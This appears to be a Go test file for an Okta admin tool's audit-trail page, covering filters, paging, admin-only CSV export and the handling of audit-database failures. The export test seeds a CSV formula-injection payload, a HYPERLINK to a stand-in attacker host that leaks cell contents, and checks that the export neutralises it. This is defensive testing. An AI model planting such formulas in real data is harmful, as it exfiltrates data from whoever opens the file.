package handlers_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"gatehouse/web/audit"
	"gatehouse/web/webtest"
)

// seedTrail writes entries straight into the audit database, one a day back from a fixed
// time, so that the page's filters and paging can be checked against known records.
func seedTrail(t *testing.T, db *audit.DB, n int, at time.Time, make func(i int) audit.Entry) []audit.Entry {
	t.Helper()
	var out []audit.Entry
	for i := range n {
		e := make(i)
		e.Time = at.Add(-time.Duration(i) * 24 * time.Hour)
		require.NoError(t, db.Append(context.Background(), e))
		out = append(out, e)
	}
	return out
}

func rowsOf(doc *goquery.Document) []string {
	var got []string
	doc.Find("[data-testid=audit-row]").Each(func(_ int, s *goquery.Selection) {
		got = append(got, s.Find("td").First().Text())
	})
	return got
}

// TestAuditPageFiltersAndPaging is handler-level on a seeded trail: the time range, action
// and result filters select exactly their entries; paging walks months of entries by cursor,
// both ways, without gaps or repeats; a cursor Gatehouse did not write starts over with a note.
func TestAuditPageFiltersAndPaging(t *testing.T) {
	t.Parallel()
	db := webtest.AuditDB(t)
	h := webtest.NewHandlers(t, webtest.Options{AuditStore: db})
	at := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	// 130 days of entries: every third a helpdesk unlock that Okta refused, the others an
	// admin suspending someone.
	seedTrail(t, db, 130, at, func(i int) audit.Entry {
		if i%3 == 0 {
			return audit.Entry{ActorID: "00uhal", ActorLogin: "hal@example.com", Role: "helpdesk", TargetID: "00ubob", TargetLogin: "bob@example.com",
				Action: "unlock", Result: audit.ResultFailure, Detail: "E0000038", RequestID: fmt.Sprint("req-", i)}
		}
		return audit.Entry{ActorID: "00uada", ActorLogin: "ada@example.com", Role: "admin", TargetID: "00ucarol", TargetLogin: "carol@example.com",
			Action: "suspend", Reason: "TICKET-" + fmt.Sprint(i), Result: audit.ResultSuccess, RequestID: fmt.Sprint("req-", i)}
	})
	page := func(t *testing.T, query string) (int, *goquery.Document) {
		t.Helper()
		r := h.As(t, webtest.Request(http.MethodGet, "/admin/audit?"+query, nil, nil), "hal@example.com")
		w, err := webtest.Call(h.App.Admin.Audit, r)
		require.NoError(t, err)
		return w.Code, parseHTML(t, w.Body.String())
	}

	tests := []struct {
		name     string
		query    string
		wantRows int
		check    func(t *testing.T, doc *goquery.Document)
	}{
		{name: "a week, both days included", query: "from=2026-11-24&to=2026-11-30", wantRows: 7},
		{name: "one day", query: "from=2026-11-01&to=2026-11-01", wantRows: 1,
			check: func(t *testing.T, doc *goquery.Document) {
				assert.Equal(t, "1 Nov 2026, 12:00 UTC", rowsOf(doc)[0], "hal's zone is unknown: UTC, labelled")
			}},
		{name: "an action in words", query: "action=unlock&from=2026-11-01", wantRows: 10,
			check: func(t *testing.T, doc *goquery.Document) {
				cells := doc.Find("[data-testid=audit-row]").First().Find("td")
				assert.Contains(t, cells.Eq(2).Text(), "Unlock")
				assert.Contains(t, cells.Eq(4).Text(), "Failed")
				assert.Contains(t, cells.Eq(4).Text(), "Okta does not allow this in the account's status (E0000038)", "the code in words, the code kept")
			}},
		{name: "a result", query: "result=success&from=2026-11-21", wantRows: 6},
		{name: "actor and target", query: "actor=ada&target=carol&to=2026-08-05", wantRows: 8},
		{name: "a bad cursor starts over with a note", query: "before=garbage", wantRows: 50,
			check: func(t *testing.T, doc *goquery.Document) {
				assert.Contains(t, doc.Find("[role=status], [data-testid^=alert]").Text(), "starts again at the newest")
				assert.Equal(t, "30 Nov 2026, 12:00 UTC", rowsOf(doc)[0])
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, doc := page(t, tt.query)
			assert.Equal(t, http.StatusOK, code)
			assert.Len(t, rowsOf(doc), tt.wantRows)
			if tt.check != nil {
				tt.check(t, doc)
			}
		})
	}

	t.Run("invalid filters are explained on their fields", func(t *testing.T) {
		for _, q := range []string{"from=30/11/2026", "to=yesterday", "from=2026-11-30&to=2026-11-01", "action=drop-table", "result=maybe"} {
			r := h.As(t, webtest.Request(http.MethodGet, "/admin/audit?"+q, nil, nil), "hal@example.com")
			w, err := webtest.Call(h.App.Admin.Audit, r)
			require.NoError(t, err)
			assert.Equal(t, http.StatusBadRequest, w.Code, q)
			assert.NotEmpty(t, parseHTML(t, w.Body.String()).Find(".field-error").Text(), q)
		}
	})

	t.Run("paging through four months, older then newer", func(t *testing.T) {
		seen := map[string]bool{}
		var pages [][]string
		query := "action=suspend" // 86 entries: two pages
		for {
			_, doc := page(t, query)
			rows := rowsOf(doc)
			for _, r := range rows {
				assert.False(t, seen[r], "no entry twice: %s", r)
				seen[r] = true
			}
			pages = append(pages, rows)
			older, ok := doc.Find("[data-testid=audit-older]").Attr("href")
			if !ok {
				break
			}
			u, err := url.Parse(older)
			require.NoError(t, err)
			assert.Equal(t, "suspend", u.Query().Get("action"), "the filter stays in the link")
			query = u.RawQuery
		}
		assert.Len(t, seen, 86, "every suspend, once")
		assert.Len(t, pages, 2)
		_, doc := page(t, query)
		newer, ok := doc.Find("[data-testid=audit-newer]").Attr("href")
		require.True(t, ok, "the last page links back")
		u, _ := url.Parse(newer)
		_, doc = page(t, u.RawQuery)
		assert.Equal(t, pages[0], rowsOf(doc), "Newer from page 2 is page 1")
		assert.Zero(t, doc.Find("[data-testid=audit-newer]").Length(), "the newest page has no newer link")
	})
}

// TestAuditExport: the CSV of a filter holds exactly the entries the filter selects, all of
// them (not one page), with a reason starting with = neutralised; only admins may export, and
// the export is itself audited.
func TestAuditExport(t *testing.T) {
	t.Parallel()
	db := webtest.AuditDB(t)
	h := webtest.NewHandlers(t, webtest.Options{AuditStore: db})
	at := time.Now().UTC().Add(-time.Hour).Truncate(time.Second)
	seedTrail(t, db, 240, at, func(i int) audit.Entry {
		e := audit.Entry{ActorID: "00uada", ActorLogin: "ada@example.com", Role: "admin", TargetID: "00ubob", TargetLogin: "bob@example.com",
			Action: "suspend", Reason: fmt.Sprint("T-", i), Result: audit.ResultSuccess}
		if i%2 == 1 {
			e.Action, e.TargetID, e.TargetLogin = "unsuspend", "00ucarol", "carol@example.com"
		}
		if i == 4 {
			e.Reason = `=HYPERLINK("http://evil.example/?"&A1,"click")`
		}
		return e
	})

	r := h.As(t, webtest.Request(http.MethodGet, "/admin/audit/export?action=suspend&target=bob", nil, nil), "ada@example.com")
	w, err := webtest.Call(h.App.Admin.AuditExport, r)
	require.NoError(t, err)
	assert.Equal(t, http.StatusOK, w.Code)
	assert.Equal(t, "text/csv; charset=utf-8", w.Header().Get("Content-Type"))
	assert.Contains(t, w.Header().Get("Content-Disposition"), `attachment; filename="gatehouse-audit-`)
	assert.Equal(t, "no-store", w.Header().Get("Cache-Control"))
	records, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 1+120, "a header and every suspend of bob: more than one page")
	header := records[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %q in %v", name, header)
		return -1
	}
	reasons := map[string]bool{}
	for _, rec := range records[1:] {
		assert.Equal(t, "suspend", rec[col("action")])
		assert.Equal(t, "bob@example.com", rec[col("target_login")])
		reasons[rec[col("reason")]] = true
	}
	assert.True(t, reasons[`'=HYPERLINK("http://evil.example/?"&A1,"click")`], "a formula is neutralised with a leading quote")
	assert.True(t, reasons["T-0"] && reasons["T-238"], "the newest and the oldest are there")

	exports, err := db.Query(context.Background(), audit.Filter{Action: "export-audit"})
	require.NoError(t, err)
	require.Len(t, exports.Entries, 1, "the export is audited")
	assert.Equal(t, "ada@example.com", exports.Entries[0].ActorLogin)
	assert.Contains(t, exports.Entries[0].Detail, "action=suspend")

	t.Run("helpdesk may not export", func(t *testing.T) {
		r := h.As(t, webtest.Request(http.MethodGet, "/admin/audit/export", nil, nil), "hal@example.com")
		w, err := webtest.Call(h.App.Admin.AuditExport, r)
		assert.Equal(t, http.StatusForbidden, statusOf(err))
		assert.Zero(t, w.Body.Len())
	})
	t.Run("the page offers the export to admins only", func(t *testing.T) {
		for login, want := range map[string]int{"ada@example.com": 1, "hal@example.com": 0} {
			r := h.As(t, webtest.Request(http.MethodGet, "/admin/audit?action=suspend", nil, nil), login)
			w, err := webtest.Call(h.App.Admin.Audit, r)
			require.NoError(t, err)
			link := parseHTML(t, w.Body.String()).Find("[data-testid=audit-export]")
			assert.Equal(t, want, link.Length(), login)
			if want == 1 {
				assert.Equal(t, "/admin/audit/export?action=suspend", link.AttrOr("href", ""))
			}
		}
	})
	t.Run("an export that cannot be recorded is not started", func(t *testing.T) {
		db2 := webtest.AuditDB(t)
		h2 := webtest.NewHandlers(t, webtest.Options{AuditStore: db2, Okta: h.Okta})
		require.NoError(t, db2.Close())
		r := h2.As(t, webtest.Request(http.MethodGet, "/admin/audit/export", nil, nil), "ada@example.com")
		w, err := webtest.Call(h2.App.Admin.AuditExport, r)
		assert.Equal(t, http.StatusServiceUnavailable, statusOf(err))
		assert.Empty(t, w.Header().Get("Content-Disposition"))
	})
}

// TestAuditFailureIsReportedOnTheAction: when the audit database cannot store the record, the
// action (done in Okta) is reported as done but not recorded — after the redirect and in the
// dialog — never as a clean success.
func TestAuditFailureIsReportedOnTheAction(t *testing.T) {
	t.Parallel()
	db := webtest.AuditDB(t)
	env := webtest.New(t, webtest.Options{AuditStore: db})
	ada := env.SignInAs(t, "ada@example.com")
	require.NoError(t, db.Close(), "the audit database goes away")

	tests := []struct {
		name    string
		headers map[string]string
	}{
		{name: "post/redirect/get"},
		{name: "htmx dialog", headers: webtest.HTMX("user-panel")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			id := adminTestUser(t, env.Okta, "SUSPENDED")
			res, body := post(t, env, ada, personPath(id)+"/unsuspend", actionForm("unsuspend"), tt.headers)
			if tt.headers == nil {
				require.Equal(t, http.StatusSeeOther, res.StatusCode)
				_, body = get(t, env, ada, res.Header.Get("Location"), nil)
			}
			assert.Equal(t, "ACTIVE", env.Okta.UserStatus(id), "the action happened in Okta")
			doc := parseHTML(t, body)
			assert.Zero(t, doc.Find("[data-testid=alert-success]").Length(), "never a clean success")
			text := doc.Find("[data-testid=alert-warning]").Text()
			assert.Contains(t, text, "Done, but not recorded")
			assert.Contains(t, text, "could not be recorded in Gatehouse's audit trail — tell your Okta administrator")
		})
	}
}
